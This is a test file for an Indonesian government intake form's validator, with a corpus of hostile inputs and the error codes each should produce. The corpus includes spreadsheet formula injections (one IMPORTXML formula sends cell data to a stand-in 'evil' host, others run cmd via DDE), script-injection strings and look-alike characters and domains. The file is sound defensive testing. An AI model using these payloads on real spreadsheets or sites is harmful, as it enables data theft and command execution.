// Tests for server-side intake validation: a corpus of hostile and malformed answers, each with its expected outcome.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  CONSENT_CHOICE,
  FIELD_MAX_LENGTH,
  FILES_DELIVERY_CHOICES,
  INTAKE_FORM,
  OFFICIAL_EMAIL_CHOICES,
} from '../../src/core/intake-form';
import {
  type ExistingApplication,
  formatIssuesForApplicant,
  SERVICE_LABELS,
  validateIntake,
} from '../../src/core/intake-validation';
import { hasInvisible, toSafeCell } from '../../src/core/sanitize';

const NOW = new Date('2026-01-05T08:00:00+08:00');
const SETTINGS = { allowedEmailDomains: ['bolmongkab.go.id'] };
const ACTIVE = new Set(['MENUNGGU_DISPOSISI_KADIS', 'DITERUSKAN_SANDIMAN']);
const isActive = (s: string) => ACTIVE.has(s);
const title = (key: string) => INTAKE_FORM.questions.find((q) => q.key === key)!.title;

const VALID: Record<string, string | string[]> = {
  name: 'Budi Santoso',
  nik: '7101010101900001',
  employmentStatus: 'PNS',
  nip: '199001012015031001',
  position: 'Pranata Komputer Ahli Pertama',
  unit: 'Dinas Komunikasi dan Informatika',
  hasOfficialEmail: OFFICIAL_EMAIL_CHOICES.YES,
  email: 'budi.santoso@bolmongkab.go.id',
  phone: '081234567890',
  service: 'Penerbitan baru',
  filesDelivery: FILES_DELIVERY_CHOICES.BAWA_KE_DINAS,
  filesLink: '',
  consent: [CONSENT_CHOICE],
};

function answers(changes: Record<string, string | string[] | undefined>): Record<string, string | string[]> {
  const out: Record<string, string | string[]> = {};
  for (const [key, value] of Object.entries({ ...VALID, ...changes })) {
    if (value !== undefined) out[title(key)] = value;
  }
  return out;
}

function run(changes: Record<string, string | string[] | undefined>, existing: ExistingApplication[] = []) {
  return validateIntake(answers(changes), SETTINGS, existing, isActive, NOW);
}

describe('validateIntake: a valid application', () => {
  it('maps titles to keys and normalises every field', () => {
    const out = run({ phone: '+62 812-3456-7890', email: ' Budi.Santoso@BolmongKab.go.id ', name: ' budi   santoso ' });
    expect(out).toEqual({
      ok: true,
      warnings: [],
      applicant: {
        name: 'budi santoso',
        nik: '7101010101900001',
        nip: '199001012015031001',
        employmentStatus: 'PNS',
        position: 'Pranata Komputer Ahli Pertama',
        unit: 'Dinas Komunikasi dan Informatika',
        email: 'budi.santoso@bolmongkab.go.id',
        phone: '6281234567890',
        service: 'PENERBITAN_BARU',
        filesDelivery: 'BAWA_KE_DINAS',
        filesLink: '',
        hasOfficialEmail: true,
        consent: true,
      },
    });
  });
  it('accepts the Drive path with a link, and every service label', () => {
    const out = run({
      filesDelivery: FILES_DELIVERY_CHOICES.TAUTAN_DRIVE,
      filesLink: 'https://drive.google.com/drive/folders/1AbC',
    });
    expect(out.ok && out.applicant).toMatchObject({
      filesDelivery: 'TAUTAN_DRIVE',
      filesLink: 'https://drive.google.com/drive/folders/1AbC',
    });
    for (const [code, label] of Object.entries(SERVICE_LABELS)) {
      const r = run({ service: label });
      expect(r.ok && r.applicant.service).toBe(code);
    }
  });
  it('accepts consent given as a plain string (single checkbox) and ignores unknown questions', () => {
    const a = answers({ consent: CONSENT_CHOICE });
    a['Pertanyaan tambahan'] = '=IMPORTXML("x")';
    expect(validateIntake(a, SETTINGS, [], isActive, NOW).ok).toBe(true);
  });
  it('accepts any .go.id domain when the allow-list is empty', () => {
    const out = validateIntake(answers({ email: 'x@kominfo.go.id' }), { allowedEmailDomains: [] }, [], isActive, NOW);
    expect(out.ok).toBe(true);
  });
});

type Case = [
  label: string,
  changes: Record<string, string | string[] | undefined>,
  errors: string[],
  warnings?: string[],
];
const long = (n: number, ch = 'a') => ch.repeat(n);

/** Each hostile or malformed input with the exact error codes expected (empty = accepted). */
const CORPUS: Case[] = [
  // formula payloads
  ['name =IMPORTXML', { name: '=IMPORTXML("http://evil/?"&A1,"//a")' }, ['NAME_FORMULA']],
  ['name =HYPERLINK', { name: '=HYPERLINK("http://evil","Klik")' }, ['NAME_FORMULA']],
  ['name +cmd', { name: "+cmd|' /C calc'!A0" }, ['NAME_FORMULA']],
  ['name -1+1', { name: '-1+1' }, ['NAME_FORMULA']],
  ['name @SUM', { name: '@SUM(1+9)*cmd|/C calc!A0' }, ['NAME_FORMULA']],
  ['name tab formula', { name: '\t=1+1' }, ['NAME_FORMULA']],
  ['name CR formula', { name: '\r=1+1' }, ['NAME_FORMULA']],
  ['name LF formula', { name: '\n=1+1' }, ['NAME_FORMULA']],
  ['name leading tab then text', { name: '\tBudi Santoso' }, []],
  ['name leading CR then text', { name: '\rBudi Santoso' }, []],
  ['position =IMPORTXML', { position: '=IMPORTXML("http://evil","//a")' }, ['TEXT_FORMULA']],
  ['position +cmd', { position: '+cmd' }, ['TEXT_FORMULA']],
  ['position -1+1', { position: '-1+1' }, ['TEXT_FORMULA']],
  ['position @SUM', { position: '@SUM(A1)' }, ['TEXT_FORMULA']],
  ['position tab formula', { position: '\t=A1' }, ['TEXT_FORMULA']],
  ['position CR formula', { position: '\r\n=A1' }, ['TEXT_FORMULA']],
  ['position leading tab text', { position: '\tKepala Seksi' }, []],
  ['unit =WEBSERVICE', { unit: '=WEBSERVICE("http://evil")' }, ['TEXT_FORMULA']],
  ['unit +cmd', { unit: '+SUM(1)' }, ['TEXT_FORMULA']],
  ['unit -2', { unit: '-2+3' }, ['TEXT_FORMULA']],
  ['unit @', { unit: '@unit' }, ['TEXT_FORMULA']],
  ['unit zero-width before formula', { unit: '\u200B=1+1' }, ['TEXT_FORMULA']],
  ['nik formula', { nik: '=7101010101900001' }, ['NIK_NOT_DIGITS']],
  ['nik +formula', { nik: '+7101010101900001' }, ['NIK_NOT_DIGITS']],
  ['nip formula', { nip: '=199001012015031001' }, ['NIP_NOT_DIGITS']],
  ['email formula', { email: '=HYPERLINK("x")@bolmongkab.go.id' }, ['EMAIL_FORMAT']],
  ['email +cmd', { email: '+cmd@bolmongkab.go.id' }, ['EMAIL_FORMAT']],
  ['email -1', { email: '-1@bolmongkab.go.id' }, ['EMAIL_FORMAT']],
  ['email @', { email: '@bolmongkab.go.id' }, ['EMAIL_FORMAT']],
  ['phone +cmd', { phone: '+cmd' }, ['PHONE_FORMAT']],
  ['phone formula', { phone: '=0812345678' }, ['PHONE_FORMAT']],
  ['phone -1+1', { phone: '-1+1' }, ['PHONE_FORMAT']],
  [
    'link formula',
    { filesDelivery: FILES_DELIVERY_CHOICES.TAUTAN_DRIVE, filesLink: '=HYPERLINK("https://drive.google.com/x")' },
    ['FILES_LINK_FORMAT'],
  ],
  ['service formula', { service: '=Penerbitan baru' }, ['INVALID_CHOICE']],
  ['status formula', { employmentStatus: '=PNS' }, ['INVALID_CHOICE']],
  // HTML / script
  ['name script', { name: '<script>alert(x)</script>' }, ['NAME_CHARACTERS']],
  ['name img onerror', { name: '<img src=x onerror=alert(x)>' }, ['NAME_CHARACTERS']],
  ['name bold', { name: 'Budi <b>Santoso</b>' }, ['NAME_CHARACTERS']],
  ['name entity', { name: 'Budi &amp; Ani' }, ['NAME_CHARACTERS']],
  ['name quote injection', { name: 'Budi" onmouseover="x' }, ['NAME_CHARACTERS']],
  ['position script', { position: 'Staf<script>alert(1)</script>' }, ['TEXT_MARKUP']],
  ['unit iframe', { unit: 'Dinas <iframe src=//evil>' }, ['TEXT_MARKUP']],
  ['email script', { email: '<script>@bolmongkab.go.id' }, ['EMAIL_FORMAT']],
  [
    'link javascript',
    { filesDelivery: FILES_DELIVERY_CHOICES.TAUTAN_DRIVE, filesLink: 'javascript:alert(1)' },
    ['FILES_LINK_FORMAT'],
  ],
  [
    'link with quote',
    { filesDelivery: FILES_DELIVERY_CHOICES.TAUTAN_DRIVE, filesLink: 'https://drive.google.com/x"><script>' },
    ['FILES_LINK_FORMAT'],
  ],
  // zero-width and look-alike characters
  ['name zero-width inside', { name: 'Bu\u200Bdi San\u200Dtoso' }, []],
  ['name BOM', { name: '\uFEFFBudi Santoso' }, []],
  ['name Cyrillic letters', { name: 'Вudi Ѕantoso' }, ['NAME_CHARACTERS']],
  ['name Greek letters', { name: 'Βudi Santoso' }, ['NAME_CHARACTERS']],
  ['nik zero-width', { nik: '7101\u200B0101\u200C01900001' }, []],
  ['nik BOM', { nik: '\uFEFF7101010101900001' }, []],
  ['nik Cyrillic O for zero', { nik: '71О1010101900001' }, ['NIK_NOT_DIGITS']],
  ['nik Latin O for zero', { nik: '71O1010101900001' }, ['NIK_NOT_DIGITS']],
  ['nik letter l for one', { nik: '7l01010101900001' }, ['NIK_NOT_DIGITS']],
  ['nik fullwidth digits', { nik: '７１０１０１０１０１９０００１' }, ['NIK_NOT_DIGITS']],
  ['nik Arabic-Indic digits', { nik: '٧١٠١٠١٠١٠١٩٠٠٠٠١' }, ['NIK_NOT_DIGITS']],
  ['nik with spaces', { nik: '7101 0101 0190 0001' }, []],
  ['nik with dashes', { nik: '7101-0101-0190-0001' }, ['NIK_NOT_DIGITS']],
  ['nip zero-width', { nip: '19900101\u200B2015031001' }, []],
  ['email zero-width', { email: 'budi.santoso@bolmong\u200Bkab.go.id' }, ['EMAIL_INVISIBLE']],
  ['email zero-width joiner', { email: 'budi\u200D.santoso@bolmongkab.go.id' }, ['EMAIL_INVISIBLE']],
  ['email BOM', { email: '\uFEFFbudi.santoso@bolmongkab.go.id' }, ['EMAIL_INVISIBLE']],
  ['email RTL override', { email: 'budi\u202E@bolmongkab.go.id' }, ['EMAIL_INVISIBLE']],
  ['email Cyrillic o in local part', { email: 'budi.santоso@bolmongkab.go.id' }, ['EMAIL_NON_ASCII']],
  ['email Cyrillic a in domain', { email: 'budi@bolmongkаb.go.id' }, ['EMAIL_NON_ASCII']],
  ['email Cyrillic o in go', { email: 'budi@bolmongkab.gо.id' }, ['EMAIL_NON_ASCII']],
  ['email dotless i', { email: 'budı@bolmongkab.go.id' }, ['EMAIL_NON_ASCII']],
  ['email fullwidth at', { email: 'budi＠bolmongkab.go.id' }, ['EMAIL_NON_ASCII']],
  ['email non-breaking space', { email: 'budi\u00A0@bolmongkab.go.id' }, ['EMAIL_NON_ASCII']],
  ['email IDN punycode look-alike', { email: 'budi@xn--bolmongkb-q9a.go.id' }, ['EMAIL_DOMAIN_NOT_ALLOWED']],
  ['phone zero-width', { phone: '0812\u200B34567890' }, [], []],
  ['phone fullwidth digits', { phone: '０８１２３４５６７８９０' }, ['PHONE_FORMAT']],
  // over-long values
  ['name 50,001 chars', { name: long(50001) }, ['TOO_LONG']],
  ['name 101 chars', { name: long(101) }, ['TOO_LONG']],
  ['name 201 raw chars', { name: long(201) }, ['TOO_LONG']],
  ['name padded with spaces to 150, 12 letters', { name: `${' '.repeat(69)}Budi${' '.repeat(69)}Santoso` }, []],
  ['nik 50,001 chars', { nik: long(50001, '7') }, ['TOO_LONG']],
  ['nip 50,001 chars', { nip: long(50001, '1') }, ['TOO_LONG']],
  ['position 50,001 chars', { position: long(50001) }, ['TOO_LONG']],
  ['position 201 chars', { position: long(201) }, ['TOO_LONG']],
  ['unit 50,001 chars', { unit: long(50001) }, ['TOO_LONG']],
  ['email 50,001 chars', { email: `${long(50001)}@bolmongkab.go.id` }, ['TOO_LONG']],
  ['phone 50,001 chars', { phone: long(50001, '0') }, ['TOO_LONG']],
  [
    'link 50,001 chars',
    { filesDelivery: FILES_DELIVERY_CHOICES.TAUTAN_DRIVE, filesLink: `https://drive.google.com/${long(50001)}` },
    ['TOO_LONG'],
  ],
  ['service 50,001 chars', { service: long(50001) }, ['TOO_LONG']],
  ['consent 50,001 chars', { consent: [long(50001)] }, ['TOO_LONG']],
  ['position exactly 200 chars', { position: long(200) }, []],
  // wrong digit counts
  ['nik 15 digits', { nik: '710101010190000' }, ['NIK_LENGTH']],
  ['nik 17 digits', { nik: '71010101019000011' }, ['NIK_LENGTH']],
  ['nik 1 digit', { nik: '7' }, ['NIK_LENGTH']],
  ['nip 17 digits', { nip: '19900101201503100' }, ['NIP_LENGTH']],
  ['nip 19 digits', { nip: '1990010120150310011' }, ['NIP_LENGTH']],
  ['nip 16 digits (NIK typed)', { nip: '7101010101900001' }, ['NIP_LENGTH']],
  ['pppk 17 digits', { employmentStatus: 'PPPK', nip: '19900101202321100' }, ['NIP_LENGTH']],
  ['phone 9 digits', { phone: '081234567' }, ['PHONE_FORMAT']],
  ['phone 15 digits', { phone: '081234567890123' }, ['PHONE_FORMAT']],
  ['phone landline', { phone: '0434123456' }, ['PHONE_FORMAT']],
  // impossible dates and structure
  ['nik day 00', { nik: '7101010001900001' }, ['NIK_DATE']],
  ['nik day 32', { nik: '7101013201900001' }, ['NIK_DATE']],
  ['nik day 40', { nik: '7101014001900001' }, ['NIK_DATE']],
  ['nik day 72', { nik: '7101017201900001' }, ['NIK_DATE']],
  ['nik 31 April', { nik: '7101013104900001' }, ['NIK_DATE']],
  ['nik 29 Feb 1990', { nik: '7101012902900001' }, ['NIK_DATE']],
  ['nik female 30 Feb', { nik: '7101017002880001' }, ['NIK_DATE']],
  ['nik month 13', { nik: '7101010113900001' }, ['NIK_DATE']],
  ['nik month 00', { nik: '7101010100900001' }, ['NIK_DATE']],
  ['nik province 00', { nik: '0001010101900001' }, ['NIK_PROVINCE']],
  ['nik province 99', { nik: '9901010101900001' }, ['NIK_PROVINCE']],
  ['nik serial 0000', { nik: '7101010101900000' }, ['NIK_SERIAL']],
  ['nik 29 Feb 1988 (leap)', { nik: '7101012902880001', nip: '198802292015031001' }, []],
  ['nik Papua Tengah', { nik: '9401010101900001' }, [], ['NIK_PROVINCE_PAPUA_NEW']],
  ['nip birth 30 Feb', { nip: '199002302015031001' }, ['NIP_BIRTH_DATE'], []],
  ['nip TMT month 13', { nip: '199001012015131001' }, ['NIP_TMT_MONTH']],
  ['nip TMT future', { nip: '199001012027011001' }, ['NIP_TMT_FUTURE']],
  ['nip TMT at age 10', { nip: '199001012000031001' }, ['NIP_TMT_TOO_EARLY']],
  ['nip gender 3', { nip: '199001012015033001' }, ['NIP_GENDER']],
  ['nip serial 000', { nip: '199001012015031000' }, ['NIP_SERIAL']],
  ['pppk birth month 13', { employmentStatus: 'PPPK', nip: '199013012023211001' }, ['NIP_BIRTH_DATE']],
  ['pppk valid', { employmentStatus: 'PPPK', nip: '199001012023211001' }, []],
  // cross-checks are warnings
  ['nik/nip birth mismatch', { nik: '7101010202900001' }, [], ['CROSS_BIRTH_DATE']],
  ['nik female, nip male', { nik: '7101014101900001' }, [], ['CROSS_GENDER']],
  ['nik/nip year mismatch', { nik: '7101010101910001' }, [], ['CROSS_BIRTH_DATE']],
  // non-.go.id and domains
  ['gmail', { email: 'budi.santoso@gmail.com' }, ['EMAIL_NOT_GO_ID']],
  ['yahoo.co.id', { email: 'budi@yahoo.co.id' }, ['EMAIL_NOT_GO_ID']],
  ['go.id suffix trick', { email: 'budi@bolmongkab.go.id.evil.com' }, ['EMAIL_NOT_GO_ID']],
  ['bare go.id', { email: 'budi@go.id' }, ['EMAIL_NOT_GO_ID']],
  ['other regency', { email: 'budi@bolmutkab.go.id' }, ['EMAIL_DOMAIN_NOT_ALLOWED']],
  ['look-alike prefix domain', { email: 'budi@evilbolmongkab.go.id' }, ['EMAIL_DOMAIN_NOT_ALLOWED']],
  ['subdomain allowed', { email: 'budi@diskominfo.bolmongkab.go.id' }, []],
  ['no at sign', { email: 'budi.bolmongkab.go.id' }, ['EMAIL_FORMAT']],
  ['double dot', { email: 'budi..santoso@bolmongkab.go.id' }, ['EMAIL_FORMAT']],
  // titles in names
  ['title Dr.', { name: 'Dr. Budi Santoso' }, ['NAME_TITLE']],
  ['title Drs.', { name: 'Drs. Budi Santoso' }, ['NAME_TITLE']],
  ['title Ir.', { name: 'Ir. Budi Santoso' }, ['NAME_TITLE']],
  ['title Prof.', { name: 'Prof. Budi Santoso' }, ['NAME_TITLE']],
  ['title S.Kom', { name: 'Budi Santoso, S.Kom' }, ['NAME_TITLE']],
  ['title S.T.', { name: 'Budi Santoso, S.T.' }, ['NAME_TITLE']],
  ['title S.E.', { name: 'Budi Santoso S.E.' }, ['NAME_TITLE']],
  ['title S.H.', { name: 'Budi Santoso, S.H.' }, ['NAME_TITLE']],
  ['title S.Sos', { name: 'Budi Santoso, S.Sos' }, ['NAME_TITLE']],
  ['title S.Pd', { name: 'Budi Santoso, S.Pd' }, ['NAME_TITLE']],
  ['title M.Si', { name: 'Budi Santoso, M.Si' }, ['NAME_TITLE']],
  ['title M.M.', { name: 'Budi Santoso, M.M.' }, ['NAME_TITLE']],
  ['title M.T.', { name: 'Budi Santoso, M.T.' }, ['NAME_TITLE']],
  ['title M.Kom', { name: 'Budi Santoso, M.Kom' }, ['NAME_TITLE']],
  ['title A.Md', { name: 'Budi Santoso, A.Md' }, ['NAME_TITLE']],
  ['title SE without dots', { name: 'Budi Santoso SE' }, ['NAME_TITLE']],
  ['comma without title', { name: 'Santoso, Budi' }, ['NAME_COMMA']],
  ['religious H.', { name: 'H. Budi Santoso' }, [], ['NAME_RELIGIOUS_TITLE']],
  ['religious Hj.', { name: 'Hj. Siti Aminah' }, [], ['NAME_RELIGIOUS_TITLE']],
  ['digits in name', { name: 'Budi Santoso 2' }, ['NAME_DIGITS']],
  ['initial M. is not a title', { name: 'M. Budi Santoso' }, []],
  // required, choices, consent, e-mail question, files
  [
    'everything missing',
    Object.fromEntries(Object.keys(VALID).map((k) => [k, undefined])),
    [
      'REQUIRED',
      'REQUIRED',
      'REQUIRED',
      'REQUIRED',
      'REQUIRED',
      'REQUIRED',
      'REQUIRED',
      'REQUIRED',
      'REQUIRED',
      'REQUIRED',
      'REQUIRED',
      'CONSENT_REQUIRED',
    ],
  ],
  ['blank name', { name: '   ' }, ['REQUIRED']],
  ['blank position', { position: '' }, ['REQUIRED']],
  ['status Honorer', { employmentStatus: 'Honorer' }, ['INVALID_CHOICE']],
  ['status lower case', { employmentStatus: 'pns' }, ['INVALID_CHOICE']],
  ['service unknown', { service: 'Pembuatan email' }, ['INVALID_CHOICE']],
  ['delivery unknown', { filesDelivery: 'Lewat WhatsApp' }, ['INVALID_CHOICE']],
  ['no official e-mail yet', { hasOfficialEmail: OFFICIAL_EMAIL_CHOICES.NO }, ['NO_OFFICIAL_EMAIL']],
  ['e-mail question unknown answer', { hasOfficialEmail: 'Mungkin' }, ['INVALID_CHOICE']],
  ['consent missing', { consent: [] }, ['CONSENT_REQUIRED']],
  ['consent other text', { consent: ['Setuju'] }, ['CONSENT_REQUIRED']],
  [
    'upload without link',
    { filesDelivery: FILES_DELIVERY_CHOICES.TAUTAN_DRIVE, filesLink: '' },
    ['FILES_LINK_REQUIRED'],
  ],
  [
    'upload with http link',
    { filesDelivery: FILES_DELIVERY_CHOICES.TAUTAN_DRIVE, filesLink: 'http://drive.google.com/x' },
    ['FILES_LINK_FORMAT'],
  ],
  [
    'upload with look-alike host',
    { filesDelivery: FILES_DELIVERY_CHOICES.TAUTAN_DRIVE, filesLink: 'https://drive.google.com.evil.com/x' },
    ['FILES_LINK_FORMAT'],
  ],
  [
    'upload with docs link',
    { filesDelivery: FILES_DELIVERY_CHOICES.TAUTAN_DRIVE, filesLink: 'https://docs.google.com/document/d/1x/edit' },
    [],
  ],
  ['bring files with a link too', { filesLink: 'https://drive.google.com/file/d/1x/view' }, []],
  [
    'several faults at once',
    { nik: '123', email: 'a@gmail.com', phone: '12' },
    ['NIK_LENGTH', 'EMAIL_NOT_GO_ID', 'PHONE_FORMAT'],
  ],
];

describe('validateIntake: hostile and malformed corpus', () => {
  it('has at least 100 cases', () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(100);
  });
  it.each(CORPUS)('%s', (_label, changes, expectedErrors, expectedWarnings) => {
    const out = run(changes);
    const errors = out.ok ? [] : out.errors.map((e) => e.code);
    expect(errors).toEqual(expectedErrors);
    expect(out.ok).toBe(expectedErrors.length === 0);
    if (expectedWarnings !== undefined) expect(out.warnings.map((w) => w.code)).toEqual(expectedWarnings);
    const issues = out.ok ? out.warnings : [...out.errors, ...out.warnings];
    for (const i of issues) {
      expect(i.message).not.toContain('7101010101900001');
      expect(i.message.length).toBeGreaterThan(10);
    }
    if (out.ok) {
      const a = out.applicant;
      for (const v of [a.name, a.nik, a.nip, a.position, a.unit, a.email, a.phone, a.filesLink]) {
        expect(toSafeCell(v)).toBe(v);
        expect(hasInvisible(v)).toBe(false);
        expect(v).not.toMatch(/[<>]/);
      }
    }
  });
});

describe('validateIntake: one active application per NIK and service', () => {
  const nik = VALID.nik as string;
  it('refuses a second active application for the same NIK and service', () => {
    const out = run({}, [{ nik, service: 'PENERBITAN_BARU', status: 'DITERUSKAN_SANDIMAN' }]);
    expect(out.ok).toBe(false);
    if (!out.ok) {
      expect(out.errors.map((e) => e.code)).toEqual(['DUPLICATE_ACTIVE']);
      expect(out.errors[0]!.message).toContain('Penerbitan baru');
    }
  });
  it('allows it when the earlier one is finished, or for another service, or another NIK', () => {
    expect(run({}, [{ nik, service: 'PENERBITAN_BARU', status: 'SERTIFIKAT_TERBIT' }]).ok).toBe(true);
    expect(run({}, [{ nik, service: 'RESET_PASSPHRASE', status: 'DITERUSKAN_SANDIMAN' }]).ok).toBe(true);
    expect(run({}, [{ nik: '7101010101900002', service: 'PENERBITAN_BARU', status: 'DITERUSKAN_SANDIMAN' }]).ok).toBe(
      true,
    );
  });
  it('matches the NIK after normalisation (spaces, zero-width)', () => {
    const out = run({ nik: '7101 0101\u200B0190 0001' }, [
      { nik, service: 'PENERBITAN_BARU', status: 'MENUNGGU_DISPOSISI_KADIS' },
    ]);
    expect(out.ok).toBe(false);
  });
});

describe('validateIntake: partial data for the register', () => {
  it('keeps the fields that passed', () => {
    const out = run({ nik: '123', phone: '0812 3456 7890' });
    expect(out.ok).toBe(false);
    if (!out.ok) {
      expect(out.partial.nik).toBeUndefined();
      expect(out.partial.phone).toBe('6281234567890');
      expect(out.partial.name).toBe('Budi Santoso');
    }
  });
});

describe('validateIntake: never throws and never accepts unsafe text (property)', () => {
  const hostile = fc.oneof(
    fc.string(),
    fc.string({ unit: 'grapheme' }),
    fc.constantFrom('=1+1', '+1', '-1', '@x', '\t=x', '\r=x', '<b>', '\u200B', 'а', '７'),
    fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\u200B'), fc.string()).map(([a, b]) => a + b),
  );
  const field = fc.constantFrom(...Object.keys(VALID));
  it('holds for any single hostile field', () => {
    fc.assert(
      fc.property(field, hostile, (key, value) => {
        const out = run({ [key]: value });
        if (out.ok) {
          const a = out.applicant;
          for (const v of [a.name, a.nik, a.nip, a.position, a.unit, a.email, a.phone, a.filesLink]) {
            expect(toSafeCell(v)).toBe(v);
            expect(hasInvisible(v)).toBe(false);
            expect(v.length).toBeLessThanOrEqual(2000);
          }
        } else {
          expect(out.errors.length).toBeGreaterThan(0);
        }
      }),
    );
  });
  it('caps every field at or below its limit', () => {
    for (const [key, max] of Object.entries(FIELD_MAX_LENGTH)) {
      const out = run({ [key]: 'x'.repeat(max + 1) });
      expect(out.ok).toBe(false);
      if (!out.ok) expect(out.errors.map((e) => e.code)).toContain('TOO_LONG');
    }
  });
});

describe('formatIssuesForApplicant', () => {
  it('lists each message once, numbered, under a polite heading', () => {
    const out = run({ nik: '710101010190000', email: 'budi@gmail.com' });
    expect(out.ok).toBe(false);
    if (out.ok) return;
    expect(formatIssuesForApplicant([...out.errors, ...out.errors])).toBe(
      [
        'Mohon perbaiki hal berikut, lalu kirim kembali formulir:',
        '1. NIK harus 16 digit angka; yang Anda isi 15 digit.',
        '2. Email harus email dinas yang berakhiran .go.id; email pribadi (Gmail, Yahoo, dan lain-lain) tidak dapat dipakai.',
      ].join('\n'),
    );
  });
  it('uses another heading for warnings and says so when there is nothing', () => {
    expect(formatIssuesForApplicant([])).toBe('Tidak ada yang perlu diperbaiki.');
    const out = run({ nik: '7101010202900001' });
    expect(formatIssuesForApplicant(out.warnings, 'Mohon periksa kembali hal berikut:')).toMatch(
      /^Mohon periksa kembali hal berikut:\n1\. Tanggal lahir/,
    );
  });
});
